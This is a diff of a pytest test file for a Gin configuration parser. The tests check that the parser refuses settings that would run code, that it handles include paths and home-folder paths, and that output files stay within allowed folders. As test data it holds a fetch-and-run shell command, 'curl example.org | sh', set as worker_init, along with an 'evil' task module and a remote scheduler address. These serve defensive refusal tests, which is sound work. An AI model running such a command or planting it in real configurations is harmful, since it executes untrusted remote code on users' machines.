@@ -68,6 +68,8 @@ CODE = "{'worker_init': 'curl example.org | sh'}"
     ("text", "named"),
     [
         ("finetune.task_modules = ['evil']", "task_modules"),
+        ("RTE/finetune.task_modules = ['evil']", "task_modules"),
+        ("finetune:\n  task_modules = ['evil']", "task_modules"),
         ("prepare.scheduler = 'tcp://example.org:8786'", "scheduler"),
         (f"run.engine_options = {CODE}", "worker_init"),
         (f"OPTIONS = {CODE}\nrun.engine_options = %OPTIONS", "worker_init"),
@@ -84,12 +86,11 @@ def test_what_runs_code_is_told_by_the_user(tmp_path: Path, text: str, named: st
     inner.write_text(text + "\n")
     outer.write_text(f"include '{inner}'\n")
     for file in (inner, outer):
-        with pytest.raises(
-            UserError, match=rf"inner\.gin line \d sets {named}, whose code would run"
-        ):
+        message = rf"inner\.gin line \d sets {named}, whose code would run"
+        with pytest.raises(UserError, match=message):
             parse(file)
     # The cures: typed, with its macros, or trusted.
-    typed = text.split("\n")
+    typed = text.split("\n") if "%" in text else [text]
     for options in ({"typed": typed}, {"typed": [*typed[1:], typed[0]]}, {"allow_imports": True}):
         assert not refuses_code(inner, **options)
 
@@ -107,9 +108,16 @@ def refuses_code(file: Path, **options: Any) -> bool:
     return False
 
 
-def test_a_text_with_the_sign_of_a_reference_is_data(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "text",
+    [
+        "NAME = 'hub:google/bert@main'  # not @this\n",
+        'A = """\nimport os\n"""  # from\nB = "import"\n',
+    ],
+)
+def test_signs_within_a_text_are_data(tmp_path: Path, text: str) -> None:
     file = tmp_path / "file.gin"
-    file.write_text("NAME = 'hub:google/bert@main'  # not @this\n")
+    file.write_text(text)
     parse(file)
 
 
@@ -151,15 +159,6 @@ def test_files_that_include_each_other_are_refused(tmp_path: Path) -> None:
     other.write_text(f"include '{one}'\n")
     with pytest.raises(UserError, match=r"other\.gin line 1 .*one\.gin, .*itself"):
         parse(one)
-
-
-def test_the_launcher_refuses_a_file_that_would_make_a_world(tmp_path: Path) -> None:
-    file = tmp_path / "plan.gin"
-    file.write_text("launch.root = @make_world()\nmake_world.run_dir = 'made'\n")
-    done = warm.run(["launch", "plan", "--gin_file=plan.gin"], tmp_path)
-    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
-    assert "plan.gin line 1:" in done.stderr and "@make_world()" in done.stderr
-    assert [path.name for path in tmp_path.iterdir()] == ["plan.gin"]
 
 
 def test_shipped_files_are_found_from_any_directory(
@@ -210,21 +209,14 @@ def test_a_flag_sets_the_macro_that_its_parameter_is_bound_to(tmp_path: Path) ->
         bound(a="x")
 
 
-_NAMES_AN_OUTPUT = re.compile(
-    r"\b(path of|file or) .* to write\b|to this file|folder of the curves"
-)
-
-
 def test_every_parameter_that_names_an_output_file_is_known() -> None:
     """Otherwise a Gin file could name one anywhere; run directories replace nothing."""
+    said = r"\b(path of|file or) .* to write\b|\bto this file\b|\bfolder of the curves\b"
     outputs = {
         name
         for command in COMMANDS.values()
         for name, lines in described_function(load(command.target))[1].items()
-        if re.search(
-            r"\b(path of|file or) .* to write\b|\bto this file\b|\bfolder of the curves\b",
-            " ".join(lines),
-        )
+        if re.search(said, " ".join(lines))
     }
     assert outputs == {"csv", "html", "latex", "path", "output_dir"}
     assert outputs <= gin_files._WRITTEN
@@ -279,9 +271,8 @@ def test_a_file_names_files_below_the_folder_or_the_run(
         if is_near:
             assert bound(file) == path
         else:
-            with pytest.raises(
-                UserError, match=r"a\.gin line \d sets csv to .*give --csv="
-            ) as refused:
+            message = r"a\.gin line \d sets csv to .*give --csv="
+            with pytest.raises(UserError, match=message) as refused:
                 bound(file)
             assert path in str(refused.value)
         # What the user tells counts.
@@ -295,25 +286,20 @@ WORLD = "make_world.num_documents = 40"
 
 @pytest.mark.parametrize("path", ["~/runs", "$HOME/runs", "${HOME}/runs", "{home}/runs"])
 def test_paths_begin_in_the_home_folder(tmp_path: Path, path: str) -> None:
+    """Of runs, of Gin files and of what these include."""
     home, work = tmp_path / "home", tmp_path / "work"
-    work.mkdir()
+    for folder in (home, work):
+        folder.mkdir()
     path = path.replace("{home}", str(home))
-    (work / "a.gin").write_text(f"{WORLD}\nmake_world.run_dir = {path + '/in_gin'!r}\n")
+    (home / "b.gin").write_text(f"{WORLD}\n")
+    (home / "a.gin").write_text(f"include '~/b.gin'\nmake_world.run_dir = {path + '/in_gin'!r}\n")
     environment = {**os.environ, "HOME": str(home)}
-    for arguments in (["--gin_file=a.gin"], [f"--run_dir={path}/in_flag", f"--gin_param={WORLD}"]):
+    flags = [f"--run_dir={path}/in_flag", f"--gin_param={WORLD}"]
+    for arguments in (["--gin_file=~/a.gin"], flags):
         done = warm.run(["world", *arguments], work, environment=environment)
         assert done.returncode == 0, done.stderr
     assert sorted(file.name for file in (home / "runs").iterdir()) == ["in_flag", "in_gin"]
-    assert [file.name for file in work.iterdir()] == ["a.gin"]
-
-
-def test_a_file_in_the_home_folder_is_found(tmp_path: Path) -> None:
-    (tmp_path / "a.gin").write_text("include '~/b.gin'\nmake_world.run_dir = 1\n")
-    (tmp_path / "b.gin").write_text(WORLD + "\n")
-    done = warm.run(
-        ["world", "--gin_file=~/a.gin"], tmp_path, environment={**os.environ, "HOME": str(tmp_path)}
-    )
-    assert done.stderr == "error: make_world.run_dir is 1, expected str; correct it\n"
+    assert not list(work.iterdir())
 
 
 def test_an_unset_variable_in_a_path_makes_no_folder(tmp_path: Path) -> None:
@@ -350,8 +336,6 @@ def test_an_include_is_looked_for_beside_its_file(
     assert (run_dir(), capsys.readouterr().err) == ("beside", "")
     (tmp_path / "base.gin").write_text("RUN_DIR = 'above'\n")
     assert run_dir() == "above"
-    assert (
-        "exp/a.gin includes base.gin: that of the current directory is read"
-        in capsys.readouterr().err
-    )
+    said = "exp/a.gin includes base.gin: that of the current directory is read"
+    assert said in capsys.readouterr().err
     gin.clear_config()
